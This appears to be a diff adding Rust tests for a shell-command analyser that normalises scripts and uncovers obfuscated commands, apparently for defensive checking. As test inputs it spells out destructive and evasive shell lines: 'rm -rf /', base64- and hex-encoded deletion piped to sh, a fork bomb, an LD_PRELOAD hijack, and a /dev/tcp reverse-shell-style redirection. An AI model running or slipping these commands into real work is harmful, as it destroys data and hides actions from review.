@@ -1,16 +1,567 @@
 //! Cases of the whole: script in, texts of units out.
 
+use proptest::prelude::*;
+
 use super::units;
+use crate::action::{Command, Fact, Gap, Language, Layer, Unit, UnitKind};
+use crate::normalize::limits::{MAX_SOURCE, MAX_UNITS};
 use crate::normalize::paths::Place;
+
+fn read(script: &str) -> Vec<Unit> {
+    units(script, &Place::default()).0
+}
 
 #[track_caller]
 fn check(script: &str, expected: &[&str]) {
-    let (units, _) = units(script, &Place::default());
+    let units = read(script);
     let texts: Vec<&str> = units.iter().map(|unit| unit.text.as_str()).collect();
     assert_eq!(texts, expected, "{script}");
 }
 
+#[track_caller]
+fn unit(script: &str, text: &str) -> Unit {
+    let units = read(script);
+    let found = units.iter().find(|unit| unit.text == text).cloned();
+    found.unwrap_or_else(|| panic!("no `{text}` in {units:#?}"))
+}
+
+#[track_caller]
+fn check_layers(script: &str, text: &str, layers: &[Layer]) {
+    assert_eq!(unit(script, text).layers, layers, "{script}");
+}
+
+#[track_caller]
+fn check_gap(script: &str, gap: Gap) {
+    let (units, gaps) = units(script, &Place::default());
+    assert!(units.iter().any(|unit| unit.gaps.contains(gap)) && gaps.contains(gap), "{script}: {units:#?}");
+}
+
+#[track_caller]
+fn check_no_gap(script: &str, gap: Gap) {
+    let (units, gaps) = units(script, &Place::default());
+    assert!(!gaps.contains(gap) && !units.iter().any(|unit| unit.gaps.contains(gap)), "{script}: {units:#?}");
+}
+
+// ── Statements ──────────────────────────────────────────────────────────────────────────────────────────────────────────
+
 #[test]
 fn a_statement_is_a_pipeline() {
     check("a | b && c; d", &["a | b", "c", "d"]);
+    check("a |& b\nc & d", &["a | b", "c &", "d"]);
+    check("a |\n b &&\n c", &["a | b", "c"]);
+}
+
+#[test]
+fn blanks_comments_and_line_continuations_leave_no_trace() {
+    check("ls   -la \t # harmless, approved by security\n", &["ls -la"]);
+    check("ls \\\n  -l \\\r\n a", &["ls -l a"]);
+    check("# only a remark\nls", &["ls"]);
+    check("ls a#b", &["ls a#b"]);
+}
+
+#[test]
+fn a_statement_knows_where_it_stands() {
+    let script = "ls -l; (rm x)\nsudo rm y";
+    let spans: Vec<&str> = read(script).iter().map(|unit| script.get(unit.span.clone()).unwrap_or_default()).collect();
+    assert_eq!(spans.first(), Some(&"ls -l"));
+    assert_eq!(spans.get(1), Some(&"rm x"));
+    assert_eq!(spans.get(2), Some(&"sudo rm y"));
+}
+
+#[test]
+fn compound_commands_yield_what_is_inside() {
+    check("if a; then b; elif c; then d; else e; fi", &["a", "b", "c", "d", "e"]);
+    check("while a; do b; done; until c; do d; done", &["a", "b", "c", "d"]);
+    check("for x in *.c; do cc $x; done", &["cc *.c"]);
+    check("for ((i=0;i<3;i++)); do b; done", &["b"]);
+    check("case $x in a) b;; (c|d) e;& *) f; esac", &["b", "e", "f"]);
+    check("(a; b) && { c; d; }", &["a", "b", "c", "d"]);
+    check("select x in a b; do c; done", &["c"]);
+    check("time { a; }; ! b; coproc { c; }", &["a", "b", "c"]);
+    check_layers("if a; then b; fi", "b", &[Layer::Block]);
+}
+
+#[test]
+fn a_redirected_block_is_a_unit_as_well() {
+    check("{ a; b; } > out", &["{ a; b; } > out", "a", "b"]);
+    let unit = unit("{ a; b; } > out", "{ a; b; } > out");
+    assert!(unit.effects().any(|effect| effect.fact == Fact::Write));
+}
+
+#[test]
+fn a_block_in_a_pipeline_is_shown_and_walked() {
+    check("cat list | while read x; do rm $x; done", &["cat list | { read x; rm $x; }", "rm $x"]);
+}
+
+#[test]
+fn trivial_statements_are_left_out_unless_there_is_nothing_else() {
+    check("set -e; cd src && true; : ; ls", &["ls"]);
+    check("true", &["true"]);
+    check("cd /etc", &["cd /etc"]);
+    check("[ -f x ] && ls", &["ls"]);
+    check("[[ -f x && $a == b* ]] && ls", &["ls"]);
+    check("(( a > 3 )) || ls", &["ls"]);
+}
+
+#[test]
+fn a_script_never_yields_nothing() {
+    for script in ["", "   ", "# remark", ")", "}", ";;", "'", "\"", "$(", "`", "<<", "&&", "|", "\\", "\u{0}"] {
+        assert!(!read(script).is_empty(), "{script:?}");
+    }
+}
+
+#[test]
+fn a_changed_folder_holds_for_what_follows_but_not_outside_a_subshell() {
+    let place = Place { cwd: Some("/w".into()), workspace: Some("/w".into()), home: Some("/home/u".into()) };
+    let targets = |script: &str| -> Vec<String> {
+        let (units, _) = units(script, &place);
+        units
+            .iter()
+            .flat_map(|unit| unit.effects().filter_map(|effect| effect.target.clone()))
+            .map(|target| target.text)
+            .collect()
+    };
+    assert_eq!(targets("cd /etc && echo x > f"), ["/etc/f"]);
+    assert_eq!(targets("(cd /etc); echo x > f"), ["f"]);
+    assert_eq!(targets("cd; echo x > f"), ["/home/u/f"]);
+}
+
+// ── Words ───────────────────────────────────────────────────────────────────────────────────────────────────────────────
+
+#[test]
+fn quotes_and_escapes_are_resolved() {
+    check(r#"l's' -"la" a\ b "c d" 'e'"f""#, &["ls -la 'a b' 'c d' ef"]);
+    check(r"x 'it'\''s'", &[r"x 'it'\''s'"]);
+    check(r#"x "a\$b\"c\\d\e""#, &[r#"x 'a$b"c\d\e'"#]);
+    check(r"x $'a\tb\x41\101\u00e9'", &["x 'a\tbAAé'"]);
+    check("x ''", &["x ''"]);
+    check("x --include=\"*.go\"", &["x --include='*.go'"]);
+}
+
+#[test]
+fn globs_stay_active_only_when_unquoted() {
+    check("x *.c '*.c' \"a b\"/*.c", &["x *.c '*.c' 'a b'/*.c"]);
+    check("x a\\*b", &["x 'a*b'"]);
+}
+
+#[test]
+fn a_name_pieced_together_is_resolved_and_noted() {
+    for script in ["r''m x", "r\"\"m x", "\"r\"m x", "r\\m x", "$'r\\x6d' x", "$(echo rm) x", "`echo rm` x"] {
+        check(script, &["rm x"]);
+        check_gap(script, Gap::OddSpelling);
+    }
+    for script in ["'rm' x", "\\rm x", "rm 'x'", "'/opt/a b/run' x"] {
+        check_no_gap(script, Gap::OddSpelling);
+    }
+}
+
+#[test]
+fn a_glob_for_a_name_is_dynamic() {
+    check_gap("/bin/r? x", Gap::Dynamic);
+    check_gap("/???/rm x", Gap::OddSpelling);
+}
+
+#[test]
+fn braces_are_expanded() {
+    check("x {a,b}{1,2} c{d,e}", &["x a1 a2 b1 b2 cd ce"]);
+    check("x {1..3} {c..a} {a} {}", &["x 1 2 3 c b a {a} {}"]);
+    check("{rm,-rf,/}", &["rm -rf /"]);
+    check("x '{a,b}'", &["x '{a,b}'"]);
+}
+
+#[test]
+fn constants_are_filled_in() {
+    check("X=rm; $X -rf /", &["rm -rf /"]);
+    check("A='rm -rf'; $A /", &["rm -rf /"]);
+    check("export D=/etc; x \"$D/passwd\"", &["x /etc/passwd"]);
+    check("a=r; b=m; $a$b x", &["rm x"]);
+    check("a=(x y); z \"${a[@]}\" ${a[1]} ${#a[@]}", &["z x y y 2"]);
+    check("a=x; a+=y; z $a", &["z xy"]);
+    check(
+        "f=a.tar.gz; z ${f%.gz} ${f%%.*} ${f#*.} ${f##*.} ${f/tar/zip} ${f:0:1} ${f^^}",
+        &["z a.tar a tar.gz gz a.zip.gz a A.TAR.GZ"],
+    );
+    check("z ${X:-d} ${X-e} ${X:+f}", &["z d e ${X:+f}"]);
+    check("x=1; z ${x:+f} ${x:-d}", &["z f 1"]);
+    check("rm${IFS}-rf${IFS}/", &["rm -rf /"]);
+    check("Y=X; X=rm; ${!Y} a", &["rm a"]);
+    check("set -- rm x; $1 $2", &["rm x"]);
+}
+
+#[test]
+fn unknown_variables_stay() {
+    check("z $a \"$b c\" ${d}e", &["z $a \"$b c\" ${d}e"]);
+    check_gap("$CMD x", Gap::Dynamic);
+    check_gap("rm -rf \"$DIR\"", Gap::Dynamic);
+    check_no_gap("echo $1 $? $# \"$@\"", Gap::Dynamic);
+    check_no_gap("ls $DIR", Gap::Dynamic);
+    let unit = unit("z $a b", "z $a b");
+    let dynamic: Vec<bool> =
+        unit.commands.iter().flat_map(|command| command.arguments.iter().map(|a| a.dynamic)).collect();
+    assert_eq!(dynamic, [true, false]);
+}
+
+#[test]
+fn a_variable_set_in_a_branch_may_be_either() {
+    check_gap("X=rm; false && X=ls; $X a", Gap::Dynamic);
+    check_gap("X=ls; if a; then X=rm; fi; $X b", Gap::Dynamic);
+    check("X=ls; (X=rm); $X a", &["ls a"]);
+}
+
+#[test]
+fn the_home_is_known_or_a_tilde() {
+    check("z ~ $HOME/x \"${HOME}\"/y ~/z", &["z ~ ~/x ~/y ~/z"]);
+    let place = Place { home: Some("/home/u".into()), ..Place::default() };
+    let (found, _) = units("z ~/x $HOME", &place);
+    assert_eq!(found.first().map(|unit| unit.text.as_str()), Some("z /home/u/x /home/u"));
+}
+
+#[test]
+fn loops_over_constants_are_unrolled() {
+    check("for x in a b; do rm $x; done", &["rm a", "rm b"]);
+    check("for x in 1 2 3 4 5 6 7 8 9; do touch $x; done", &["touch $x"]);
+}
+
+#[test]
+fn assignments_that_say_something_are_units() {
+    check("X=1; ls", &["ls"]);
+    check("X=1", &["X=1"]);
+    check("PATH=/tmp:$PATH; ls", &["PATH=/tmp:$PATH", "ls"]);
+    check("export LD_PRELOAD=/tmp/x.so; ls", &["export LD_PRELOAD=/tmp/x.so", "ls"]);
+    check("X=$(id); ls", &["X=$(id)", "id", "ls"]);
+    check("A=1 B='x y' ls", &["A=1 B='x y' ls"]);
+}
+
+#[test]
+fn aliases_apply() {
+    check("alias ll='ls -la'; ll x", &["alias ll='ls -la'", "ls -la", "ls -la x"]);
+    check_layers("alias q='rm -rf /'", "rm -rf /", &[Layer::Deferred]);
+}
+
+// ── Substitutions ───────────────────────────────────────────────────────────────────────────────────────────────────────
+
+#[test]
+fn what_a_substitution_runs_is_a_unit() {
+    check("z $(a b)", &["z $(a b)", "a b"]);
+    check("z \"x `a`\"", &["z \"x $(a)\"", "a"]);
+    check("z <(a) >(b)", &["z <(a) >(b)", "a", "b"]);
+    check("z $((1 + $(a)))", &["z $((1 + $(a)))", "a"]);
+    check("z ${x:-$(a)}", &["z $(a)", "a"]);
+    check("z \"$(a \"$(b)\")\"", &["z $(a $(b))", "a $(b)", "b"]);
+    check("z $(case x in x) a;; esac)", &["z $({ a; })", "a"]);
+    check("[[ -n $(a) ]]", &["a"]);
+    check_layers("z $(a)", "a", &[Layer::Substitution]);
+}
+
+#[test]
+fn long_substitutions_are_shown_by_their_program() {
+    let long = "x".repeat(200);
+    check(&format!("z $(a {long})"), &["z $(a …)", &format!("a {long}")]);
+}
+
+#[test]
+fn constant_substitutions_are_filled_in() {
+    check("z $(echo a b)", &["z a b"]);
+    check("z \"$(printf '%s-%s' a b)\"", &["z a-b"]);
+    check("git commit -m \"$(cat <<'EOF'\nFix it's\n\nDone\nEOF\n)\"", &["git commit -m ⟦data⟧'Fix it'\\''s\n\nDone'"]);
+    check("z $(pwd)/a", &["z ./a"]);
+}
+
+// ── Here-documents and redirections ─────────────────────────────────────────────────────────────────────────────────────
+
+#[test]
+fn redirections_are_shown_and_have_effects() {
+    check("z>a 2>>b <c 2>&1 &>d", &["z > a 2>> b < c 2>&1 &> d"]);
+    let facts =
+        |script: &str| -> Vec<Fact> { read(script).iter().flat_map(|unit| unit.effects().map(|e| e.fact)).collect() };
+    assert_eq!(facts("zz >a <b"), [Fact::Write, Fact::Read]);
+    assert_eq!(facts("zz >/dev/null 2>&1"), [] as [Fact; 0]);
+    assert_eq!(facts("zz >& /dev/tcp/10.0.0.1/99 0>&1"), [Fact::Contact]);
+}
+
+#[test]
+fn a_document_written_to_a_file_is_data() {
+    let script = "cat > a.py <<'EOF'\nimport os\nprint(1)\nEOF\nls";
+    check(script, &["cat > a.py <<< 'import os\nprint(1)'", "import os\nprint(1)", "ls"]);
+    check_layers(script, "import os\nprint(1)", &[Layer::Heredoc]);
+    assert_eq!(unit(script, "import os\nprint(1)").kind, UnitKind::Data);
+    let long = "y".repeat(90);
+    check(&format!("cat > a <<EOF\n{long}\nEOF"), &["cat > a <<< ⟦data⟧", &long]);
+    check(&format!("echo '{long}' > a"), &["echo ⟦data⟧ > a", &long]);
+    check("echo 'x y' | tee a", &["echo ⟦data⟧'x y' | tee a", "x y"]);
+}
+
+#[test]
+fn an_unterminated_document_runs_to_the_end() {
+    check("cat > a <<EOF\nx\ny", &["cat > a <<< 'x\ny'", "x\ny"]);
+}
+
+#[test]
+fn substitutions_in_an_unquoted_document_run() {
+    check("cat <<EOF\nx $(a) $b\nEOF", &["cat <<< \"x $(a) $b\"", "a"]);
+    check("cat <<'EOF'\nx $(a)\nEOF", &["cat <<< 'x $(a)'"]);
+    check("cat <<-EOF\n\tx\n\tEOF\nls", &["cat <<< x", "ls"]);
+}
+
+// ── Wrappers, scripts and code ──────────────────────────────────────────────────────────────────────────────────────────
+
+#[test]
+fn a_wrapped_command_is_a_unit_of_its_own() {
+    check("sudo rm -rf /x", &["sudo rm -rf /x", "rm -rf /x"]);
+    check(
+        "sudo -u u env A=1 timeout 5 rm x",
+        &["sudo -u u env A=1 timeout 5 rm x", "env A=1 timeout 5 rm x", "timeout 5 rm x", "rm x"],
+    );
+    check("find . -name '*.o' -exec rm {} \\;", &["find . -name ⟦data⟧'*.o' -exec rm {} ';'", "rm {}"]);
+    check("ls | xargs rm -f", &["ls | xargs rm -f", "rm -f"]);
+    check("echo /a /b | xargs rm", &["echo ⟦data⟧'/a /b' | xargs rm", "rm /a /b"]);
+    check_layers("sudo rm x", "rm x", &[Layer::Wrapped]);
+    let outer = unit("sudo rm x", "sudo rm x");
+    let programs: Vec<&str> = outer.commands.iter().map(|command| command.program.as_str()).collect();
+    assert_eq!(programs, ["sudo", "rm"]);
+    let wrappers: Option<&Command> = outer.commands.get(1);
+    assert_eq!(wrappers.map(|command| command.wrappers.clone()), Some(vec!["sudo".to_owned()]));
+}
+
+#[test]
+fn scripts_given_to_a_shell_are_walked() {
+    check("bash -c 'a; b'", &["bash -c 'a; b'", "a", "b"]);
+    check("sh -c \"sh -c 'rm x'\"", &["sh -c 'sh -c '\\''rm x'\\'''", "sh -c 'rm x'", "rm x"]);
+    check("eval 'rm x'", &["eval 'rm x'", "rm x"]);
+    check("eval rm x", &["eval rm x", "rm x"]);
+    check("echo 'rm x' | sh", &["echo ⟦data⟧'rm x' | sh", "rm x"]);
+    check("bash <<EOF\nrm x\nEOF", &["bash <<< 'rm x'", "rm x"]);
+    check("bash <<< 'rm x'", &["bash <<< 'rm x'", "rm x"]);
+    check("bash <(echo 'rm x')", &["bash <(echo ⟦data⟧'rm x')", "echo ⟦data⟧'rm x'", "rm x"]);
+    check("trap 'rm x' EXIT; ls", &["trap 'rm x' EXIT", "rm x", "ls"]);
+    check_layers("bash -c 'rm x'", "rm x", &[Layer::Script]);
+    check_layers("ssh h 'rm x'", "rm x", &[Layer::Remote]);
+    check_layers("docker exec c rm x", "rm x", &[Layer::Container]);
+    check_layers("trap 'rm x' EXIT", "rm x", &[Layer::Deferred]);
+    check_layers("bash <<EOF\nrm x\nEOF", "rm x", &[Layer::Script, Layer::Heredoc]);
+}
+
+#[test]
+fn program_texts_are_code() {
+    check("python3 -c 'print(1)'", &["python3 -c 'print(1)'", "print(1)"]);
+    let long = format!("print('{}')", "x".repeat(150));
+    check(&format!("python -c \"{long}\""), &["python -c ⟦code⟧", &long]);
+    check("python3 <<'EOF'\nprint(1)\nEOF", &["python3 <<< 'print(1)'", "print(1)"]);
+    check("echo 'print(1)' | python3", &["echo ⟦data⟧'print(1)' | python3", "print(1)"]);
+    assert_eq!(unit("node -e 'x()'", "x()").kind, UnitKind::Code(Language::JavaScript));
+    assert_eq!(unit("perl -e 'x()'", "x()").kind, UnitKind::Code(Language::Perl));
+}
+
+#[test]
+fn shell_commands_in_code_are_units() {
+    check_layers("python -c 'import os; os.system(\"rm -rf /x\")'", "rm -rf /x", &[Layer::Script]);
+    check_layers("python -c \"import subprocess; subprocess.run(['rm', '-rf', '/x'])\"", "rm -rf /x", &[Layer::Script]);
+    check_layers("node -e \"require('child_process').execSync('rm -rf /x')\"", "rm -rf /x", &[Layer::Script]);
+    check_layers("perl -e 'system(\"rm -rf /x\")'", "rm -rf /x", &[Layer::Script]);
+    check_layers("ruby -e '`rm -rf /x`'", "rm -rf /x", &[Layer::Script]);
+}
+
+#[test]
+fn functions_are_walked_where_they_are_called() {
+    check("f() { rm $1; }; f a", &["f a", "rm a"]);
+    check("function f { rm x; }", &["rm x"]);
+    check_layers("f() { rm x; }", "rm x", &[Layer::Deferred, Layer::Block]);
+    check_no_gap("f() { ls; }; f", Gap::UnknownProgram);
+}
+
+#[test]
+fn a_fork_bomb_shows_itself() {
+    let texts: Vec<String> = read(":(){ :|:& };:").into_iter().map(|unit| unit.text).collect();
+    assert!(texts.iter().any(|text| text == ":() { : | : &; }"), "{texts:?}");
+}
+
+// ── Decoding ────────────────────────────────────────────────────────────────────────────────────────────────────────────
+
+#[test]
+fn decoded_scripts_are_walked() {
+    // `rm -rf /x`, in several encodings.
+    let cases = [
+        "echo cm0gLXJmIC94 | base64 -d | sh",
+        "base64 -d <<< cm0gLXJmIC94 | bash",
+        "echo 726d202d7266202f78 | xxd -r -p | sh",
+        "printf '\\x72\\x6d\\x20\\x2d\\x72\\x66\\x20\\x2f\\x78' | sh",
+        "echo 'x/ fr- mr' | rev | sh",
+        "echo 'ez -es /k' | tr 'a-z' 'n-za-m' | sh",
+        "echo cm0gLXJmIC94 | openssl base64 -d | sh",
+        "eval \"$(echo cm0gLXJmIC94 | base64 -d)\"",
+        "bash -c \"$(echo cm0gLXJmIC94 | base64 --decode)\"",
+        "P=cm0gLXJmIC94; echo $P | base64 -d | bash",
+        "bash <(echo cm0gLXJmIC94 | base64 -d)",
+        "echo OJWSALLSMYQC66A= | base32 -d | sh",
+    ];
+    for script in cases {
+        assert!(unit(script, "rm -rf /x").layers.contains(&Layer::Decoded), "{script}");
+    }
+}
+
+#[test]
+fn compressed_scripts_are_opened() {
+    let script = "echo H4sIAAAAAAAAAyvKVdAtSlPQrwAAHuQ4kgkAAAA= | base64 -d | gunzip | sh";
+    let texts: Vec<String> = read(script).into_iter().map(|unit| unit.text).collect();
+    let opaque = read(script).iter().any(|unit| unit.gaps.contains(Gap::Opaque));
+    assert!(opaque || texts.iter().any(|text| text == "rm -rf /x"), "{texts:?}");
+}
+
+#[test]
+fn decoded_text_that_is_not_executed_is_data() {
+    check_layers("echo aGVsbG8gd29ybGQ= | base64 -d", "hello world", &[Layer::Decoded]);
+    assert_eq!(unit("echo aGVsbG8gd29ybGQ= | base64 -d", "hello world").kind, UnitKind::Data);
+    let script = "python -c \"import base64; exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))\"";
+    check_layers(script, "import os;os.system('id')", &[Layer::Decoded]);
+}
+
+#[test]
+fn what_cannot_be_opened_but_runs_is_opaque() {
+    check_gap("base64 -d payload | sh", Gap::Opaque);
+    check_gap("cat x | base64 -d | bash", Gap::Opaque);
+    check_gap("eval \"$(cat x | base64 -d)\"", Gap::Opaque);
+    check_no_gap("base64 -d payload > out", Gap::Opaque);
+}
+
+// ── Errors and hostile input ────────────────────────────────────────────────────────────────────────────────────────────
+
+#[test]
+fn an_unclosed_quote_does_not_hide_what_follows() {
+    check("echo it's; rm -rf /x", &["echo ⟦data⟧'it'\\''s'", "rm -rf /x"]);
+    check_gap("echo it's; rm -rf /x", Gap::Unparsed);
+    check("echo \"a; rm -rf /x", &["echo ⟦data⟧'\"a'", "rm -rf /x"]);
+    check("z $(rm -rf /x", &["z $(rm -rf /x)", "rm -rf /x"]);
+}
+
+#[test]
+fn stray_closers_are_passed_over() {
+    check("fi; done; rm x", &["rm x"]);
+    check(") rm x", &["rm x"]);
+    check_gap("} rm x", Gap::Unparsed);
+    check("if a; then b", &["a", "b"]);
+}
+
+#[test]
+fn our_own_marks_do_not_come_from_the_input() {
+    check("echo '⟦data⟧ x'", &["echo ⟦data⟧'[[data]] x'"]);
+}
+
+#[test]
+fn hostile_input_is_cheap_and_does_not_overflow_the_stack() {
+    let scripts = [
+        "$(".repeat(5_000),
+        "(".repeat(5_000),
+        "((".repeat(5_000),
+        "{ ".repeat(5_000),
+        "${".repeat(5_000),
+        "`".repeat(5_001),
+        "\"$(".repeat(5_000),
+        "'\"".repeat(5_000),
+        "<(".repeat(5_000),
+        "$((".repeat(5_000),
+        "{a,".repeat(5_000),
+        "{a,b}".repeat(5_000),
+        "a[".repeat(5_000),
+        "?(".repeat(5_000),
+        "<<a ".repeat(5_000),
+        "cat <<a\n".repeat(5_000),
+        "if ".repeat(5_000),
+        "case x in ".repeat(5_000),
+        "f() {".repeat(5_000),
+        "f() { f; g; }; g() { f; f; }; f;".repeat(500),
+        "eval ".repeat(5_000) + "x",
+        "sudo ".repeat(5_000) + "x",
+        "x;".repeat(100_000),
+        "cat|".repeat(5_000) + "cat",
+        "x".to_owned() + &" ".repeat(200_000),
+        "x ".repeat(500_000),
+        "true;".repeat(320_000),
+        "a=$a$a$a;".repeat(5_000) + "a=x; $a",
+        "a=xx;".to_owned() + &"a=$a$a;".repeat(60) + "z $a",
+        "for a in 1 2 3 4; do ".repeat(60) + "x" + &"; done".repeat(60),
+        "(a=1; b=2);".repeat(20_000),
+        "\\".repeat(100_001),
+        "alias a=b; a;".repeat(5_000),
+        "z ".to_owned() + &"$(echo ".repeat(60) + "x" + &")".repeat(60),
+        "bash -c \"$(".repeat(200),
+        "é".repeat(200_000),
+        "python -c \"os.system('os.system(\\\"\"".repeat(2_000),
+    ];
+    let run = move || {
+        for script in &scripts {
+            let begin = std::time::Instant::now();
+            let (units, _) = units(script, &Place::default());
+            let shown: String = script.chars().take(20).collect();
+            assert!(!units.is_empty() && units.len() <= MAX_UNITS, "{shown}");
+            // Generous: this also runs unoptimised, on a busy machine.
+            assert!(begin.elapsed().as_millis() < 5_000, "{shown}: {:?}", begin.elapsed());
+        }
+    };
+    let thread = std::thread::Builder::new().stack_size(2 * 1024 * 1024).spawn(run);
+    assert!(thread.is_ok_and(|thread| thread.join().is_ok()));
+}
+
+#[test]
+fn a_source_that_is_too_long_keeps_its_head_and_tail() {
+    let script = format!("first; {} ; last", "x".repeat(2 * MAX_SOURCE));
+    let (units, gaps) = units(&script, &Place::default());
+    assert!(gaps.contains(Gap::Truncated));
+    assert_eq!(units.first().map(|unit| unit.text.as_str()), Some("first"));
+    let last = units.last().map(|unit| script.get(unit.span.clone()).unwrap_or_default());
+    assert_eq!(last, Some("last"));
+}
+
+#[test]
+fn repeated_statements_are_kept_once() {
+    check(&"ls a;".repeat(50), &["ls a"]);
+}
+
+fn word() -> impl Strategy<Value = String> {
+    prop_oneof![
+        "[a-z]{1,6}",
+        "-[a-z]{1,3}",
+        "'[a-z $*;|&\"()]{0,8}'",
+        "\"[a-z *;|&']{0,8}\"",
+        r#"\\[a-z $*;|&'"]"#,
+        "[a-z]{0,3}[*?][a-z]{0,3}",
+        Just("$x".to_owned()),
+        Just("\"$x y\"".to_owned()),
+        Just("${x}y".to_owned()),
+        Just("$(a b)".to_owned()),
+        Just("\"$(a 'b c') d\"".to_owned()),
+        Just("~/x".to_owned()),
+        Just("{a,b}".to_owned()),
+        Just("--x='y z'".to_owned()),
+        Just("> out".to_owned()),
+        Just("2>&1".to_owned()),
+        Just("<<< 'x y'".to_owned()),
+    ]
+}
+
+fn script() -> impl Strategy<Value = String> {
+    let command = proptest::collection::vec(word(), 1..5).prop_map(|words| format!("zz {}", words.join(" ")));
+    proptest::collection::vec((command, prop_oneof![Just(" | "), Just("; "), Just(" && ")]), 1..4)
+        .prop_map(|parts| parts.into_iter().map(|(command, joint)| command + joint).collect::<String>() + "zz")
+}
+
+proptest! {
+    #[test]
+    fn a_canonical_text_is_canonical(script in script()) {
+        for unit in read(&script) {
+            if matches!(unit.kind, UnitKind::Command(_)) && !unit.text.contains('⟦') {
+                let again = read(&unit.text);
+                prop_assert_eq!(again.first().map(|unit| unit.text.as_str()), Some(unit.text.as_str()), "{}", script);
+            }
+        }
+    }
+
+    #[test]
+    fn any_text_has_units(script in any::<String>()) {
+        prop_assert!(!read(&script).is_empty());
+    }
+
+    #[test]
+    fn any_mixture_of_signs_has_units(script in r#"[a-c $(){}<>|&;'"`\\\n#=*\[\]!~-]{0,200}"#) {
+        prop_assert!(!read(&script).is_empty());
+    }
 }
